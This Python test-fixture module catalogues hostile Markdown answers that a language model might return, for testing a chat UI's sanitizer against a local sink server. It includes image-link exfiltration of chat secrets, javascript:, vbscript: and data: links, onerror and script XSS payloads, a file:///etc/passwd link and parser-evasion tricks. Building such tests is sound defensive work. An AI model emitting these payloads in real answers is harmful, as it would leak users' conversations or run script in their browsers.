"""Hostile model answers, as data: every way a Markdown answer has been found to load a remote
resource, run script or smuggle raw HTML. Reused by the sanitizer's unit tests, the real-browser
tests (Streamlit + chromium) and a hostile OpenAI-compatible test server.

Every URL a browser could fetch points at `sink` ("127.0.0.1:PORT" of an HTTP server the test
runs and whose log must stay empty), with the case's name in the path so a hit says which case
leaked. Each answer ends with a paragraph `end of NAME`: once that text is on the page, the
answer has been rendered (an unclosed fence shows it as code, which is fine).
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    name: str
    text: str

    @property
    def marker(self) -> str:
        return f"end of {self.name}"


# (name, template): "{S}" becomes "http://<sink>/<name>", "{H}" "<sink>/<name>": never to be fetched.
_CASES: list[tuple[str, str]] = [
    ("inline-image", "Here is a chart: ![pixel]({S}.png?chat=secret) as requested."),
    ("image-title", '![t]({S}.png "a title")'),
    ("image-angle-brackets", "![x](<{S}.png>)"),
    ("nested-brackets", "![a [b] c]({S}.png)"),
    ("deep-nested-brackets", "![a [b [c [d]]] e]({S}.png)"),
    ("alt-with-newline", "![a\nb]({S}.png)"),
    ("url-on-next-line", "![x](\n{S}.png)"),
    ("reference-image", "![x][r]\n\n[r]: {S}.png"),
    ("collapsed-reference-image", "![r][]\n\n[r]: {S}.png"),
    ("shortcut-reference-image", "![r]\n\n[r]: <{S}.png> 'title'"),
    ("reference-defined-first", "[r]:\n  {S}.png\n\nAnd ![here][R]."),
    ("image-in-link", "[![badge]({S}.png)](https://example.com/)"),
    ("image-in-emphasis", "**bold ![x]({S}.png) bold**"),
    ("image-in-list", "- one\n- ![x]({S}.png)\n  - ![y]({S}-nested.png)"),
    ("image-in-quote", "> quoted\n> ![x]({S}.png)"),
    ("image-in-table", "| a | b |\n|---|---|\n| ![x]({S}.png) | c |"),
    ("image-in-heading", "## Title ![x]({S}.png)"),
    ("after-lone-backtick", "a lone ` backtick, then ![x]({S}.png) and more"),
    ("code-span-then-lone-backtick", "`code` then ` lone, ![x]({S}.png)"),
    ("after-unclosed-code-span", "``code ![x]({S}.png)"),
    ("pipe-in-table-code", "| a |\n|---|\n| `x|![i]({S}.png)` |"),
    ("escaped-pipe-in-table-code", "| a |\n|---|\n| `x\\|![i]({S}.png)` |"),
    ("image-after-escaped-bang", "\\![x]({S}.png) and !\\[y]({S}-2.png)"),
    ("entity-bang", "&#33;[x]({S}.png)"),
    ("data-image", "![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=)"),
    ("html-img-block", '<img src="{S}.png">'),
    ("html-img-inline", "text <img src={S}.png onerror=alert(1)> more"),
    ("html-img-multiline", 'text <img\nsrc="{S}.png" > more'),
    ("html-picture", '<picture><source srcset="{S}.webp"><img src="{S}.png"></picture>'),
    ("html-video-poster", '<video poster="{S}.png" src="{S}.mp4"></video>'),
    ("html-iframe", '<iframe src="{S}.html"></iframe>'),
    ("html-style-import", "<style>@import url({S}.css); body { background: url({S}.png) }</style>"),
    ("html-link-stylesheet", '<link rel="stylesheet" href="{S}.css">'),
    ("html-svg-image", '<svg><image href="{S}.png"/></svg>'),
    ("html-script", "<script>fetch('{S}.js')</script>"),
    ("html-comment-hides", "visible <!-- ![x]({S}.png) --> visible"),
    ("html-details", "<details><summary>open</summary>\n\n![x]({S}.png)\n\n</details>"),
    ("javascript-link", "[click](javascript:fetch('{S}.js'))"),
    ("javascript-mixed-case", "[click](JaVaScRiPt:alert(1))"),
    ("javascript-entity", "[click](jav&#x61;script:alert(1))"),
    ("javascript-entity-colon", "[click](javascript&colon;alert(1))"),
    ("javascript-percent", "[click](java%0ascript:alert(1))"),
    ("javascript-tab", "[click](<java\tscript:alert(1)>)"),
    ("javascript-autolink", "<javascript:alert(1)>"),
    ("javascript-reference", "[click][j]\n\n[j]: javascript:alert(1)"),
    ("vbscript-link", "[click](vbscript:msgbox(1))"),
    ("data-link", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("file-link", "[passwd](file:///etc/passwd)"),
    ("protocol-relative-link", "[click](//{H}.html)"),
    ("backslash-relative-link", "[click](\\\\{H}.html)"),
    ("relative-link", "[stcore](/_stcore/health)"),
    ("math-with-image", "$ ![x]({S}.png) $ and $a![x]({S}-2.png)b$"),
    ("math-escaped-dollar", "$a\\$ ![x]({S}.png) $"),
    ("math-backtick", "$a`$ `![x]({S}.png)`"),
    ("katex-href", "$\\href{{S}.html}{x}$ and $\\url{{S}.html}$"),
    ("katex-includegraphics", "$$\n\\includegraphics{{S}.png}\n$$"),
    ("directive-style", ':red[x]{style="background:url({S}.png)"} and :span{style="background:url({S}-2.png)"}'),
    ("unclosed-fence", "```\ncode\n![x]({S}.png)"),
    ("tilde-fence", "~~~\n![x]({S}.png)\n~~~\n![y]({S}-after.png)"),
    ("setext-and-list", "a\n===\n- ![x]({S}.png)\n1) ![y]({S}-2.png)"),
    ("nul-and-controls", "a\x00b ![x](\x01{S}.png) ![y]({S}-2.png\x7f)"),
    ("cr-line-endings", "a\r![x](\r{S}.png)\r\n![y]({S}-2.png)"),
]


def hostile_answers(sink: str) -> list[Hostile]:
    """Every case, its URLs pointing at `http://<sink>/<name>…`, its end marker appended."""
    out = []
    for name, template in _CASES:
        text = template.replace("{S}", f"http://{sink}/{name}").replace("{H}", f"{sink}/{name}")
        out.append(Hostile(name, f"{text}\n\nend of {name}"))
    return out


# What must still render as Markdown after sanitizing: code with highlighting, LaTeX, tables, lists.
BENIGN = """# Result

Some **bold**, *italic*, ~~struck~~ and `inline code` with a [link](https://example.com/docs).

1. first
2. second
   - nested `x`

> a quote

```python
def f(x: int) -> int:
    return x ** 2  # ![not](an image)
```

Inline math $x^2 + y_1$ and a block:

$$
\\frac{a}{b} = \\sum_{i=1}^{n} i
$$

| name | value |
|:-----|------:|
| a    | 1     |
| `b\\|c` | $x$ |

- [ ] todo
- [x] done

Prices: $5 and $6, snake_case_name, 2 * 3, a < b, 10:30.
"""
